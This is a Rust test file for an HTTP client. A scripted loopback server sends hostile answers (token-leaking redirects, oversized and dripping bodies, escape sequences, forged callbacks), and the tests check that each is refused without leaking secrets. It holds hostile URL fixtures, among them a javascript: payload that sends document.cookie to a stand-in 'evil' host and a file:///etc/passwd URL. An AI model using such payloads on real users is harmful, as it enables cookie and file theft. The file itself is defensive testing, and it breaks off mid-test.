//! The client against hostile and broken servers: a scripted HTTP server on loopback answers
//! redirects of every kind, huge and slow bodies, byte order marks, HTML, absurd numbers,
//! non-string statuses and ids, escape sequences; a forged callback is refused. Every case
//! shows step 1 sent exactly once, no panic, and no licence, secret, token, phone number or
//! identity value in any error, `Debug` or log output.

use std::collections::HashMap;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::common::{Capture, CaptureGuard};
use dqe_client::client::{
    Client, ConfigError, DEFAULT_MAX_BODY_SIZE, DecodeKind, Error, ErrorKind, Flow, Token,
};
use dqe_client::endpoint::CallbackError;
use dqe_client::*;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

const LICENCE: &str = "LIC-HOSTILE-4242";
const SECRET: &str = "SECRET-HOSTILE-77";
const TOKEN: &str = "TOKEN-HOSTILE-9931";
const NUMBER: &str = "0687654321";
const FAMILY_NAME: &str = "HOSTILE-DUPONT";

/// Every value that must never be printed.
const SECRETS: [&str; 5] = [LICENCE, SECRET, TOKEN, NUMBER, FAMILY_NAME];

/// Everything the client logs on this test's thread, at every level: a capture installed on
/// the first call (a test's first client), kept until the thread ends.
fn logs() -> Capture {
    thread_local! {
        static LOGS: (Capture, CaptureGuard) = {
            let capture = Capture::default();
            let guard = capture.install(false);
            (capture, guard)
        };
    }
    LOGS.with(|(capture, _)| capture.clone())
}

/// Asserts that no secret shows in an error's `Display` and `Debug`, nor in the logs.
fn assert_private<E: std::fmt::Display + std::fmt::Debug>(e: &E) {
    let shown = format!(
        "{e}\n{e:?}\n{}",
        logs().text()
    );
    for secret in SECRETS {
        assert!(!shown.contains(secret), "`{secret}` leaked in:\n{shown}");
    }
    assert!(
        !shown.contains('\x1b'),
        "a raw escape character in:\n{shown}"
    );
}

/// What the scripted server answers.
#[derive(Clone)]
enum Answer {
    /// These bytes, then the connection closes.
    Raw(Vec<u8>),
    /// A JSON body with this status.
    Json(u16, String),
    /// A body of `len` zero bytes, sent in chunks, declared or not.
    Huge { len: usize, declared: bool },
    /// A valid header, then a body dripping one byte every `every`.
    Drip { every: Duration },
}

fn json(body: &str) -> Answer {
    Answer::Json(200, body.to_owned())
}

fn token_reply() -> Answer {
    json(&format!(
        r#"{{"access_token":"{TOKEN}","token_type":"Bearer","expires_in":"300"}}"#
    ))
}

type Script = Arc<dyn Fn(&str) -> Answer + Send + Sync>;

/// How many requests, or bytes, by path.
type Counts = Arc<Mutex<HashMap<String, usize>>>;

/// A loopback HTTP/1.1 server that answers by path from a script and counts requests by path,
/// and the body bytes of each [`Answer::Huge`] it could write before the client hung up.
struct Scripted {
    url: String,
    hits: Counts,
    written: Counts,
}

impl Scripted {
    async fn start(script: impl Fn(&str) -> Answer + Send + Sync + 'static) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let (hits, written): (Counts, Counts) = Default::default();
        let script: Script = Arc::new(script);
        let counts = (Arc::clone(&hits), Arc::clone(&written));
        tokio::spawn(async move {
            while let Ok((socket, _)) = listener.accept().await {
                let counts = (Arc::clone(&counts.0), Arc::clone(&counts.1));
                tokio::spawn(serve(socket, Arc::clone(&script), counts));
            }
        });
        Self { url, hits, written }
    }

    /// The body bytes the server wrote for a huge answer on `path`, once it stopped writing
    /// (the client hung up, or it wrote them all), waiting for it up to ten seconds.
    async fn written(&self, path: &str) -> usize {
        for _ in 0..1000 {
            if let Some(n) = self.written.lock().unwrap().get(path) {
                return *n;
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        panic!("the server still writes to {path}: the client reads on")
    }

    fn hits(&self, path: &str) -> usize {
        self.hits.lock().unwrap().get(path).copied().unwrap_or(0)
    }

    fn total(&self) -> usize {
        self.hits.lock().unwrap().values().sum()
    }
}

async fn serve(mut socket: TcpStream, script: Script, (hits, written): (Counts, Counts)) {
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    let head_end = loop {
        if let Some(at) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
            break at + 4;
        }
        match socket.read(&mut chunk).await {
            Ok(0) | Err(_) => return,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
    };
    let head = String::from_utf8_lossy(&buf[..head_end]).to_string();
    let target = head.split_whitespace().nth(1).unwrap_or("/").to_owned();
    let path = target.split('?').next().unwrap_or("/").to_owned();
    let length: usize = head
        .lines()
        .find_map(|l| {
            let (k, v) = l.split_once(':')?;
            k.eq_ignore_ascii_case("content-length")
                .then(|| v.trim().parse().ok())?
        })
        .unwrap_or(0);
    while buf.len() < head_end + length {
        match socket.read(&mut chunk).await {
            Ok(0) | Err(_) => return,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
    }
    *hits.lock().unwrap().entry(path.clone()).or_default() += 1;
    match script(&path) {
        Answer::Raw(bytes) => {
            let _ = socket.write_all(&bytes).await;
        }
        Answer::Json(status, body) => {
            let response = format!(
                "HTTP/1.1 {status} X\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
            let _ = socket.write_all(response.as_bytes()).await;
        }
        Answer::Huge { len, declared } => {
            let head = if declared {
                format!(
                    "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {len}\r\nConnection: close\r\n\r\n"
                )
            } else {
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n"
                    .to_owned()
            };
            if socket.write_all(head.as_bytes()).await.is_err() {
                return;
            }
            let block = vec![b' '; 64 * 1024];
            let mut sent = 0;
            while sent < len {
                let n = block.len().min(len - sent);
                if socket.write_all(&block[..n]).await.is_err() {
                    break; // the client stopped reading: what we want
                }
                sent += n;
            }
            written.lock().unwrap().insert(path, sent);
            return;
        }
        Answer::Drip { every } => {
            let head = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000\r\nConnection: close\r\n\r\n{";
            if socket.write_all(head.as_bytes()).await.is_err() {
                return;
            }
            for _ in 0..100_000 {
                tokio::time::sleep(every).await;
                if socket.write_all(b" ").await.is_err() {
                    return;
                }
            }
        }
    }
    let _ = socket.shutdown().await;
}

fn client(server: &Scripted) -> Client {
    logs();
    Client::builder()
        .server(&server.url)
        .credentials(Credentials::new(LICENCE, SECRET))
        .timeout(Duration::from_secs(5))
        .build()
        .unwrap()
}

fn step1() -> impl dqe_client::endpoint::Endpoint<Credentials = Credentials, Reply = InitiateReply>
+ dqe_client::endpoint::HasScopes<Scope = Scope> {
    InitiateRequest::new()
        .number(NUMBER)
        .name("ACME")
        .formfilling()
}

const TOKEN_PATH: &str = AccessTokenRequest::INFO.path;
const STEP1: &str = InitiateRequest::INFO.path;
const STEP2: &str = RetrieveRequest::INFO.path;

fn redirect(status: u16) -> Answer {
    Answer::Raw(
        format!(
            "HTTP/1.1 {status} Moved\r\nLocation: /elsewhere/?leak={TOKEN}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        )
        .into_bytes(),
    )
}

#[tokio::test]
async fn redirects_of_every_kind_are_never_followed_on_any_endpoint() {
    for status in [300, 301, 302, 303, 305, 307, 308] {
        for endpoint in [TOKEN_PATH, STEP1, STEP2] {
            let server = Scripted::start(move |path| {
                if path == endpoint {
                    redirect(status)
                } else if path == TOKEN_PATH {
                    token_reply()
                } else {
                    json(r#"{"status":"pending"}"#)
                }
            })
            .await;
            let c = client(&server);
            let e: Box<dyn std::fmt::Display> = if endpoint == STEP2 {
                let flow = Flow::new(&Token::new(TOKEN), Scope::Formfilling, c.clock());
                let e = c.retrieve(&flow).await.unwrap_err();
                assert!(
                    matches!(e, Error::Redirect { status: s } if s == status),
                    "{e:?}"
                );
                assert_private(&e);
                Box::new(e)
            } else {
                let e = c.initiate(&step1()).await.unwrap_err();
                if endpoint == TOKEN_PATH {
                    let Error::Token(inner) = &e else {
                        panic!("{e:?}")
                    };
                    assert!(matches!(**inner, Error::Redirect { status: s } if s == status));
                    assert!(e.was_not_sent());
                    assert_eq!(server.hits(STEP1), 0);
                } else {
                    let Error::Unconfirmed { cause, flow } = &e else {
                        panic!("{e:?}")
                    };
                    assert!(matches!(**cause, Error::Redirect { status: s } if s == status));
                    assert!(flow.has_token(TOKEN), "the flow to poll comes back");
                    assert!(!e.is_retryable() && !e.was_not_sent());
                    assert_eq!(server.hits(STEP1), 1, "step 1 sent exactly once");
                }
                assert_eq!(e.kind(), ErrorKind::Unexpected);
                assert_private(&e);
                Box::new(e)
            };
            let text = e.to_string();
            assert!(text.contains(&status.to_string()), "{text}");
            assert!(
                !text.contains("elsewhere"),
                "the location is not shown: {text}"
            );
            assert_eq!(
                server.hits("/elsewhere/"),
                0,
                "HTTP {status} on {endpoint} followed"
            );
        }
    }
}

/// A body past the limit is refused as soon as its declared length or the bytes read pass it,
/// and the rest is never read: the server could not write most of its 100 MB. Step 1 has the
/// default limit; step 2, whose reply may hold a document, the larger one the spec gives it
/// (`max_body`); a limit set on the client replaces both.
#[tokio::test]
async fn a_100_mb_body_is_refused_without_reading_it_all() {
    const LEN: usize = 100 * 1024 * 1024;
    let step2_limit = RetrieveRequest::INFO
        .max_body
        .expect("the spec gives step 2 a limit of its own");
    assert!(step2_limit > DEFAULT_MAX_BODY_SIZE && step2_limit < LEN / 4);
    for declared in [true, false] {
        let server = Scripted::start(move |path| {
            if path == TOKEN_PATH {
                token_reply()
            } else {
                Answer::Huge { len: LEN, declared }
            }
        })
        .await;
        let c = client(&server);
        let e = c.initiate(&step1()).await.unwrap_err();
        let Error::Unconfirmed { cause, .. } = &e else {
            panic!("{e:?}")
        };
        assert!(
            matches!(
                **cause,
                Error::BodyTooLarge {
                    status: 200,
                    limit: DEFAULT_MAX_BODY_SIZE
                }
            ),
            "{e:?}"
        );
        assert_eq!(server.hits(STEP1), 1);
        assert_private(&e);
        let written = server.written(STEP1).await;
        assert!(written < LEN / 2, "step 1: {written} bytes read of {LEN}");

        // Step 2: refused past its own limit, the rest unread too.
        let flow = Flow::new(&Token::new(TOKEN), Scope::Formfilling, c.clock());
        let e = c.retrieve(&flow).await.unwrap_err();
        assert!(
            matches!(e, Error::BodyTooLarge { status: 200, limit } if limit == step2_limit),
            "{e:?}"
        );
        assert!(
            e.to_string().contains(&format!("{step2_limit} bytes")),
            "{e}"
        );
        assert_private(&e);
        let written = server.written(STEP2).await;
        assert!(written < LEN / 2, "step 2: {written} bytes read of {LEN}");

        // A limit set on the client replaces the spec's, smaller here.
        let small = Client::builder()
            .server(&server.url)
            .credentials(Credentials::new(LICENCE, SECRET))
            .max_body_size(4096)
            .build()
            .unwrap();
        let e = small.retrieve(&flow).await.unwrap_err();
        assert!(
            matches!(e, Error::BodyTooLarge { limit: 4096, .. }),
            "{e:?}"
        );
        assert!(e.to_string().contains("4096 bytes"), "{e}");
    }
}

/// A document of a few MiB (a scanned bill: 3 MiB, 4 MiB once Base64-encoded) is past the
/// default limit but within step 2's: step 2 reads and decodes it whole, where step 1 refuses
/// the same body.
#[tokio::test]
async fn a_scanned_bill_past_1_mib_is_read_from_step_2_only() {
    let mut bill = b"%PDF-1.4\n".to_vec();
    bill.extend((0..3 * 1024 * 1024).map(|i| (i % 251) as u8));
    bill.extend_from_slice(b"\n%%EOF\n");
    let text = Document::new(bill.clone()).to_base64();
    let body = format!(
        r#"{{"status":"success","scope":"billing","operator":"Orange","url":"https://op.example/c","billing":"{text}"}}"#
    );
    assert!(body.len() > DEFAULT_MAX_BODY_SIZE);
    assert!(body.len() < RetrieveRequest::INFO.max_body.unwrap());
    let server = Scripted::start(move |path| {
        if path == TOKEN_PATH {
            token_reply()
        } else {
            json(&body)
        }
    })
    .await;
    let c = client(&server);
    let flow = Flow::new(&Token::new(TOKEN), Scope::Billing, c.clock());
    let check = c.retrieve(&flow).await.unwrap();
    let dqe_client::client::Check::Ready(data) = check else {
        panic!("the data")
    };
    let document = data.billing.expect("the document");
    assert_eq!(document.kind(), DocumentKind::Pdf);
    assert_eq!(document.as_bytes(), bill);

    let step1 = InitiateRequest::new().number(NUMBER).name("ACME").billing();
    let e = c.initiate(&step1).await.unwrap_err();
    let Error::Unconfirmed { cause, .. } = &e else {
        panic!("{e:?}")
    };
    assert!(
        matches!(
            **cause,
            Error::BodyTooLarge {
                limit: DEFAULT_MAX_BODY_SIZE,
                ..
            }
        ),
        "{e:?}"
    );
}

#[tokio::test]
async fn a_slow_drip_body_hits_the_timeout() {
    let server = Scripted::start(|path| {
        if path == TOKEN_PATH {
            token_reply()
        } else {
            Answer::Drip {
                every: Duration::from_millis(50),
            }
        }
    })
    .await;
    logs();
    let c = Client::builder()
        .server(&server.url)
        .credentials(Credentials::new(LICENCE, SECRET))
        .timeout(Duration::from_millis(700))
        .build()
        .unwrap();
    let e = tokio::time::timeout(Duration::from_secs(30), c.initiate(&step1()))
        .await
        .expect("the client's own timeout fires first")
        .unwrap_err();
    let Error::Unconfirmed { cause, .. } = &e else {
        panic!("{e:?}")
    };
    assert!(
        matches!(**cause, Error::Timeout(_) | Error::Transport(_)),
        "{e:?}"
    );
    assert_eq!(e.kind(), ErrorKind::Transport);
    assert_eq!(server.hits(STEP1), 1);
    assert_private(&e);
}

#[tokio::test]
async fn a_byte_order_mark_is_skipped() {
    let bom = |body: &str| {
        let mut b = b"\xEF\xBB\xBF".to_vec();
        b.extend_from_slice(body.as_bytes());
        Answer::Raw(
            [
                format!(
                    "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    b.len()
                )
                .into_bytes(),
                b,
            ]
            .concat(),
        )
    };
    let server = Scripted::start(move |path| match path {
        TOKEN_PATH => bom(&format!(
            r#"{{"access_token":"{TOKEN}","expires_in":"300"}}"#
        )),
        STEP1 => bom(r#"{"status":"success","operator":"Orange","url":"https://op.example/c"}"#),
        _ => bom(r#"{"status":"pending","scope":"formfilling"}"#),
    })
    .await;
    let c = client(&server);
    let consent = c.initiate(&step1()).await.unwrap();
    assert_eq!(consent.operator(), Some("Orange"));
    let check = c.retrieve(consent.flow()).await.unwrap();
    assert!(matches!(check, dqe_client::client::Check::Pending(_)));
}

#[tokio::test]
async fn html_with_200_names_status_type_and_length_not_the_text() {
    let page = format!("<html><body>Login {NUMBER} {TOKEN}</body></html>");
    let answer = Answer::Raw(
        format!(
            "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{page}",
            page.len()
        )
        .into_bytes(),
    );
    let server = Scripted::start(move |path| {
        if path == TOKEN_PATH {
            token_reply()
        } else {
            answer.clone()
        }
    })
    .await;
    let c = client(&server);
    let e = c.initiate(&step1()).await.unwrap_err();
    let Error::Unconfirmed { cause, .. } = &e else {
        panic!("{e:?}")
    };
    let Error::Decode(d) = &**cause else {
        panic!("{e:?}")
    };
    assert_eq!(d.kind, DecodeKind::NotJson);
    assert_eq!(d.status, 200);
    assert_eq!(d.content_type.as_deref(), Some("text/html; charset=utf-8"));
    assert_eq!(d.body_len, page.len());
    let text = e.to_string();
    assert!(
        text.contains("not JSON") && text.contains("HTTP 200") && text.contains("text/html"),
        "{text}"
    );
    assert!(!text.contains("<html>"), "{text}");
    assert_eq!(e.kind(), ErrorKind::Unexpected);
    assert_eq!(server.hits(STEP1), 1);
    assert_private(&e);
}

#[tokio::test]
async fn absurd_token_lifetimes_read_as_unknown() {
    for expires in [
        r#""18446744073709551615""#,
        "18446744073709551615",
        r#""99999999999999999999999""#,
        "-1",
        "1e300",
        r#""0""#,
        "null",
        r#"{"a":1}"#,
    ] {
        let body = format!(r#"{{"access_token":"{TOKEN}","expires_in":{expires}}}"#);
        let server = Scripted::start(move |path| {
            if path == TOKEN_PATH {
                json(&body)
            } else {
                json(r#"{"status":"success","operator":"Orange","url":"https://op.example/c"}"#)
            }
        })
        .await;
        let c = client(&server);
        let token = c.token().await.unwrap();
        let left = token
            .expires_at()
            .expect("a lifetime is assumed")
            .saturating_duration_since(std::time::Instant::now());
        assert!(
            left <= dqe_client::client::DEFAULT_TOKEN_LIFETIME,
            "{expires}: {left:?}"
        );
        let consent = c.initiate(&step1()).await.unwrap();
        assert!(consent.flow().token_expires_at().is_some());
    }
}

#[tokio::test]
async fn absurd_numbers_in_every_numeric_setting_are_config_errors_or_safe() {
    let server = Scripted::start(|_| json(r#"{"status":"pending"}"#)).await;
    let base = || {
        Client::builder()
            .server(&server.url)
            .credentials(Credentials::new(LICENCE, SECRET))
    };
    let out_of_range = |b: dqe_client::client::ClientBuilder, setting: &str| match b.build() {
        Err(ConfigError::OutOfRange { setting: s, .. }) => assert_eq!(s, setting),
        other => panic!("{setting}: {other:?}"),
    };
    out_of_range(base().max_in_flight(usize::MAX), "max_in_flight");
    out_of_range(base().poll_interval(Duration::MAX), "poll_interval");
    out_of_range(
        base().poll_interval(Duration::from_millis(10)),
        "poll_interval",
    );
    out_of_range(base().max_poll_interval(Duration::MAX), "max_poll_interval");
    out_of_range(base().timeout(Duration::MAX), "timeout");
    out_of_range(base().timeout(Duration::ZERO), "timeout");
    out_of_range(base().connect_timeout(Duration::MAX), "connect_timeout");
    out_of_range(base().max_body_size(usize::MAX), "max_body_size");
    out_of_range(base().max_retries(u32::MAX), "max_retries");

    // Waiting for ever is allowed: bounded by the token's lifetime, no overflow.
    let c = base().build().unwrap();
    let flow = Flow::new(&Token::new(TOKEN), Scope::Formfilling, c.clock());
    let waiting = c.wait(&flow, Duration::MAX);
    assert!(
        tokio::time::timeout(Duration::from_millis(300), waiting)
            .await
            .is_err()
    );

    // A flow read back with absurd times is refused, never a panic.
    for bad in [
        r#"{"token":"T","scopes":"formfilling","started_at":18446744073709551615}"#,
        r#"{"token":"T","scopes":"formfilling","started_at":1,"token_expires_at":18446744073709551615}"#,
        r#"{"token":"","scopes":"formfilling","started_at":1}"#,
    ] {
        assert!(serde_json::from_str::<Flow>(bad).is_err(), "{bad}");
    }
    let near: Flow = serde_json::from_str(
        r#"{"token":"T","scopes":"formfilling","started_at":253402300799,"token_expires_at":253402300799}"#,
    )
    .unwrap();
    let _ = near.started_at();
    assert!(near.token_time_left(std::time::SystemTime::now()).is_some());
}

#[tokio::test]
async fn non_string_statuses_and_ids_are_described_not_printed() {
    let cases = [
        (
            format!(r#"{{"status":{{"phone":"{NUMBER}"}}}}"#),
            "<a JSON object>",
        ),
        (format!(r#"{{"status":["{NUMBER}"]}}"#), "<a JSON array>"),
        (r#"{"status":42}"#.to_owned(), "42"),
        (r#"{"status":true}"#.to_owned(), "true"),
    ];
    for (body, shown) in cases {
        let server = Scripted::start(move |_| json(&body)).await;
        let c = client(&server);
        let flow = Flow::new(&Token::new(TOKEN), Scope::Formfilling, c.clock());
        let e = c.retrieve(&flow).await.unwrap_err();
        assert!(
            matches!(&e, Error::UnrecognizedStatus(Some(s)) if s == shown),
            "{e:?}"
        );
        assert_eq!(e.kind(), ErrorKind::Unexpected);
        assert_private(&e);
    }
    // An error id or text that is an object: an unknown error, described by its type.
    let body = format!(
        r#"{{"status":"error","error_id":{{"n":"{NUMBER}"}},"error_type":{{"t":"{FAMILY_NAME}"}}}}"#
    );
    let server = Scripted::start(move |_| json(&body)).await;
    let c = client(&server);
    let flow = Flow::new(&Token::new(TOKEN), Scope::Formfilling, c.clock());
    let e = c.retrieve(&flow).await.unwrap_err();
    assert_eq!(e.error_id(), Some("<a JSON object>"));
    assert_eq!(e.kind(), ErrorKind::Api);
    assert_private(&e);
}

#[tokio::test]
async fn escape_sequences_from_the_server_are_escaped() {
    let server = Scripted::start(|path| {
        if path == TOKEN_PATH {
            token_reply()
        } else {
            json(
                r#"{"status":"error","error_id":"13\u001b[2J","error_type":"operator \u001b[31mEvil\u001b]0;title\u0007 not found\r\n"}"#,
            )
        }
    })
    .await;
    let c = client(&server);
    let e = c.initiate(&step1()).await.unwrap_err();
    assert!(matches!(e, Error::Api(_)), "{e:?}");
    let text = e.to_string();
    assert!(text.contains("\\u{1b}[31mEvil"), "{text}");
    assert!(!text.contains('\x1b') && !text.contains('\r') && !text.contains('\x07'));
    assert_private(&e);
    // Unknown statuses too.
    let server = Scripted::start(|_| json(r#"{"status":"fro\u001b[5mzen"}"#)).await;
    let c = client(&server);
    let flow = Flow::new(&Token::new(TOKEN), Scope::Formfilling, c.clock());
    let e = c.retrieve(&flow).await.unwrap_err();
    assert!(e.to_string().contains("fro\\u{1b}[5mzen"), "{e}");
    assert_private(&e);
}

#[tokio::test]
async fn a_forged_callback_is_refused_before_any_request() {
    let server = Scripted::start(|_| {
        json(&format!(
            r#"{{"status":"success","scope":"formfilling","formfilling":{{"family_name":"{FAMILY_NAME}"}}}}"#
        ))
    })
    .await;
    let c = client(&server);
    let mine = Flow::new(&Token::new(TOKEN), Scope::Formfilling, c.clock());
    for forged in [
        "token=SOMEONE-ELSES&status=success",
        "https://shop.example/back?token=TOKEN-HOSTILE-993&status=success",
        "token=TOKEN-HOSTILE-99311&status=success",
    ] {
        let e = c
            .complete_callback(forged, &mine, Duration::from_secs(5))
            .await
            .unwrap_err();
        assert!(
            matches!(e, Error::Callback(CallbackError::OtherFlow)),
            "{e:?}"
        );
        assert!(e.was_not_sent());
        assert_private(&e);
    }
    assert_eq!(server.total(), 0, "no request for a forged callback");
    let data = c
        .complete_callback(
            &format!("token={TOKEN}&status=success"),
            &mine,
            Duration::from_secs(5),
        )
        .await
        .unwrap();
    assert!(data.formfilling.is_some());
}

#[tokio::test]
async fn numbers_where_the_spec_says_string_read_as_text_and_re_encode_as_they_came() {
    let body = r#"{"status":"success","scope":"formfilling","formfilling":{"family_name":"X","address":{"postal_code":69001,"number":3,"locality":true}}}"#;
    let server = Scripted::start(move |_| json(body)).await;
    let c = client(&server);
    let flow = Flow::new(&Token::new(TOKEN), Scope::Formfilling, c.clock());
    let dqe_client::client::Check::Ready(data) = c.retrieve(&flow).await.unwrap() else {
        panic!("not ready")
    };
    let reencoded = serde_json::to_value(&data).unwrap();
    let address = &reencoded["formfilling"]["address"];
    assert_eq!(address["postal_code"], serde_json::json!(69001));
    assert_eq!(address["number"], serde_json::json!(3));
    assert_eq!(address["locality"], serde_json::json!(true));
    let ff = data.formfilling.unwrap();
    let a = ff.address.as_ref().expect("address");
    let text = |v: &Option<String>| v.clone();
    assert_eq!(text(&a.postal_code).as_deref(), Some("69001"));
    assert_eq!(text(&a.number).as_deref(), Some("3"));
    assert_eq!(text(&a.locality).as_deref(), Some("true"));
    assert!(a.oddities.iter().all(|o| o.is_read_as_text()));
}

#[tokio::test]
async fn waiting_callers_share_a_failed_token_fetch() {
    let hits = Arc::new(Mutex::new(0));
    let counter = Arc::clone(&hits);
    // A server that takes a while, then fails.
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let counter = Arc::clone(&counter);
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                let _ = socket.read(&mut buf).await;
                *counter.lock().unwrap() += 1;
                tokio::time::sleep(Duration::from_millis(300)).await;
                let _ = socket
                    .write_all(b"HTTP/1.1 503 X\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                    .await;
            });
        }
    });
    logs();
    let c = Client::builder()
        .server(url)
        .credentials(Credentials::new(LICENCE, SECRET))
        .build()
        .unwrap();
    let mut set = tokio::task::JoinSet::new();
    for _ in 0..8 {
        let c = c.clone();
        set.spawn(async move { c.token().await });
    }
    let results = set.join_all().await;
    assert!(
        results
            .iter()
            .all(|r| matches!(r, Err(Error::HttpStatus { status: 503, .. })))
    );
    assert_eq!(
        *hits.lock().unwrap(),
        1,
        "one fetch for all the waiting callers"
    );
    // A later call tries again.
    let _ = c.token().await;
    assert_eq!(*hits.lock().unwrap(), 2);
}

#[tokio::test]
async fn absurd_numbers_in_every_numeric_reply_field_never_panic() {
    for n in [
        "18446744073709551615",
        "-9223372036854775808",
        "9223372036854775807",
        "1e300",
        "-1e300",
        "0.5",
        r#""99999999999999999999999999""#,
    ] {
        let body = format!(
            r#"{{"status":"success","scope":"formfilling","formfilling":{{"updated_at":{n},"birthdate":{n},"gender":{n},"address":{{"number":{n}}}}}}}"#
        );
        let server = Scripted::start(move |_| json(&body)).await;
        let c = client(&server);
        let flow = Flow::new(&Token::new(TOKEN), Scope::Formfilling, c.clock());
        let dqe_client::client::Check::Ready(data) = c.retrieve(&flow).await.unwrap() else {
            panic!("not ready")
        };
        let f = data.formfilling.expect("kept");
        if let Some(t) = &f.updated_at {
            let _ = (t.epoch_seconds(), t.date(), t.raw());
        }
        let _ = format!("{f:?}");
        let _ = serde_json::to_string(&f).unwrap();
    }
}

#[tokio::test]
async fn a_reply_of_many_unknown_keys_is_kept_in_linear_time() {
    // Near the 1 MiB limit: about 90,000 keys the spec does not know. Keeping each one must
    // not compare it with every key kept before (quadratic: minutes of CPU).
    let mut body = String::from(r#"{"status":"pending","scope":"formfilling""#);
    for i in 0..90_000 {
        body.push_str(&format!(",\"k{i}\":1"));
    }
    body.push('}');
    let keys = 90_000;
    let server = Scripted::start(move |_| json(&body)).await;
    let c = client(&server);
    let flow = Flow::new(&Token::new(TOKEN), Scope::Formfilling, c.clock());
    let dqe_client::client::Check::Pending(p) = c.retrieve(&flow).await.unwrap() else {
        panic!("pending")
    };
    assert_eq!(p.extra.len(), keys);
    assert_eq!(p.extra.get("k89999"), Some(&serde_json::json!(1)));
}

/// A step 1 success carrying `url` as its consent URL (JSON-escaped here).
fn consent_reply(url: &str) -> Answer {
    let url = serde_json::to_string(url).unwrap();
    json(&format!(
        r#"{{"status":"success","operator":"Orange","url":{url}}}"#
    ))
}

#[tokio::test]
async fn a_consent_url_that_is_not_an_operator_page_is_refused_and_never_shown() {
    let long = format!("https://op.example/{}", "x".repeat(5000));
    let cases: [(Option<&str>, client::UnsafeUrl); 9] = [
        (
            Some("javascript:fetch('//evil/'+document.cookie)"),
            client::UnsafeUrl::Scheme,
        ),
        (
            Some("data:text/html,<script>evil()</script>"),
            client::UnsafeUrl::Scheme,
        ),
        (Some("file:///etc/passwd"), client::UnsafeUrl::Scheme),
        (Some("/evil/relative"), client::UnsafeUrl::NotAbsolute),
        (Some(""), client::UnsafeUrl::Missing),
        (Some(&long), client::UnsafeUrl::TooLong),
        (
            Some("https://evil:pw@op.example/c"),
            client::UnsafeUrl::UserInfo,
        ),
        (
            Some("https://op.example/\u{1b}]8;;evil\u{7}"),
            client::UnsafeUrl::NotPrintable,
        ),
        (None, client::UnsafeUrl::Missing),
    ];
    for (url, why) in cases {
        let url = url.map(str::to_owned);
        let server = Scripted::start(move |path| match (path, &url) {
            (TOKEN_PATH, _) => token_reply(),
            (_, Some(url)) => consent_reply(url),
            (_, None) => json(r#"{"status":"success","operator":"Orange"}"#),
        })
        .await;
        let c = client(&server);
        let e = c.initiate(&step1()).await.unwrap_err();
        let Error::Unconfirmed { cause, flow } = &e else {
            panic!("{e:?}")
        };
        assert!(matches!(**cause, Error::ConsentUrl(w) if w == why), "{e:?}");
        assert!(flow.has_token(TOKEN), "the flow to poll comes back");
        assert_eq!(e.kind(), ErrorKind::Unexpected);
        assert!(!e.is_retryable() && !e.was_not_sent());
        assert_eq!(server.hits(STEP1), 1, "step 1 sent exactly once");
        let shown = format!("{e}\n{e:?}");
        assert!(
            shown.contains(&why.to_string()),
            "the rule is named: {shown}"
        );
        for part in ["evil", "passwd", "xxxxxxxx"] {
            assert!(!shown.contains(part), "the URL is not shown: {shown}");
        }
        assert_private(&e);
        // `start` refuses it the same way.
        assert!(matches!(
            c.start(&step1()).await,
            Err(Error::Unconfirmed { .. })
        ));
    }
}

#[tokio::test]
async fn an_operator_consent_url_is_given_as_it_came() {
    let url = "https://api.operator/openidconnect/fr?session=a%20b&state=x#top";
    let server = Scripted::start(move |path| match path {
        TOKEN_PATH => token_reply(),
        _ => consent_reply(url),
    })
    .await;
    let consent = client(&server).initiate(&step1()).await.unwrap();
    assert_eq!(consent.url(), Some(url));
}

#[tokio::test]
async fn a_one_step_scope_answering_a_consent_url_is_a_consent_not_an_empty_result() {
    let server = Scripted::start(|path| match path {
        TOKEN_PATH => token_reply(),
        _ => consent_reply("https://op.example/consent"),
    })
    .await;
    let mut infos = UserInfos::default();
    infos.lastname = Some("Dupont".to_owned());
    let request = InitiateRequest::new()
        .number(NUMBER)
        .name("ACME")
        .matching_notp(infos);
    match client(&server).start(&request).await.unwrap() {
        client::Started::Consent(consent) => {
            assert_eq!(consent.url(), Some("https://op.example/consent"));
        }
        other => panic!("{other:?}"),
    }
    // A javascript: URL in that shape is refused as for any scope.
    let server = Scripted::start(|path| match path {
        TOKEN_PATH => token_reply(),
        _ => consent_reply("javascript:alert(1)"),
    })
    .await;
    let e = client(&server).start(&request).await.unwrap_err();
    assert!(matches!(e, Error::Unconfirmed { .. }), "{e:?}");
}

#[tokio::test]
async fn a_poll_that_drips_past_the_deadline_is_cut_there() {
    let server = Scripted::start(|path| match path {
        TOKEN_PATH => token_reply(),
        _ => Answer::Drip {
            every: Duration::from_millis(500),
        },
    })
    .await;
    logs();
    // The request timeout (20 s, the default) is far longer than the wait.
    let c = Client::builder()
        .server(&server.url)
        .credentials(Credentials::new(LICENCE, SECRET))
        .build()
        .unwrap();
    let flow = Flow::new(&Token::new(TOKEN), Scope::Formfilling, c.clock());
    let started = std::time::Instant::now();
    let e = tokio::time::timeout(
        Duration::from_secs(60),
        c.wait(&flow, Duration::from_secs(2)),
    )
    .await
    .expect("the wait ends by itself")
    .unwrap_err();
    let took = started.elapsed();
    assert!(matches!(e, Error::WaitTimeout { polls: 1, .. }), "{e:?}");
    // Not a timing claim: without the deadline the poll would last the request timeout (20 s).
